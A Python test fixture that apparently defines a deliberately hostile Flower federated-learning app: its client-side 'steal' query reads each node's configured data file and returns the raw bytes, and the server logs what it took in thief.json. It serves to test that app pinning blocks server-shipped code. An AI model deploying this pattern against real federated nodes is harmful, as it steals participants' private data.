"""A hostile app bundle (test only): its ClientApp sends back the bytes of the node's data file.

tests/test_site_app_pin_deployment.py copies this file into a temporary Flower app (with its own
pyproject.toml) and runs it on a real SuperLink with real SuperNodes: a server that ships its own
code.  The ClientApp reads the file named by the node config's ``data-path`` and returns it whole,
after leaving a marker file next to it (``<data-path>.read-by-app``: its code ran on the node).  The
ServerApp sends one query to every node and writes what came back to ``<results-dir>/thief.json``:
per node, the error code and reason, or the SHA-256 and size of the bytes it stole.
"""
from __future__ import annotations

import hashlib
import json
import time
import warnings
from pathlib import Path

with warnings.catch_warnings():
    warnings.filterwarnings("ignore", category=DeprecationWarning, module="typer")
    from flwr.app import ConfigRecord, Context, Message, MessageType, RecordDict
    from flwr.clientapp import ClientApp
    from flwr.serverapp import Grid, ServerApp

client = ClientApp()
server = ServerApp()


@client.query()
def steal(msg: Message, context: Context) -> Message:
    path = Path(str(context.node_config["data-path"]))
    Path(f"{path}.read-by-app").write_text("the hostile app ran here\n")
    return Message(RecordDict({"loot": ConfigRecord({"path": str(path), "bytes": path.read_bytes()})}), reply_to=msg)


@server.main()
def main(grid: Grid, context: Context) -> None:
    out = Path(str(context.run_config["results-dir"]))
    out.mkdir(parents=True, exist_ok=True)
    want = int(context.run_config["num-nodes"])
    deadline = time.monotonic() + 120
    while len(nodes := sorted(grid.get_node_ids())) < want and time.monotonic() < deadline:
        time.sleep(0.5)
    messages = [Message(RecordDict({"config": ConfigRecord({"ask": "data"})}), dst_node_id=node,
                        message_type=MessageType.QUERY) for node in nodes]
    result = {}
    for reply in grid.send_and_receive(messages, timeout=120):
        node = str(reply.metadata.src_node_id)
        if reply.has_error():
            result[node] = {"error_code": int(reply.error.code), "reason": reply.error.reason}
        else:
            loot = reply.content["loot"]
            data = loot["bytes"]
            result[node] = {"path": loot["path"], "sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}
    (out / "thief.json").write_text(json.dumps(result, indent=1))
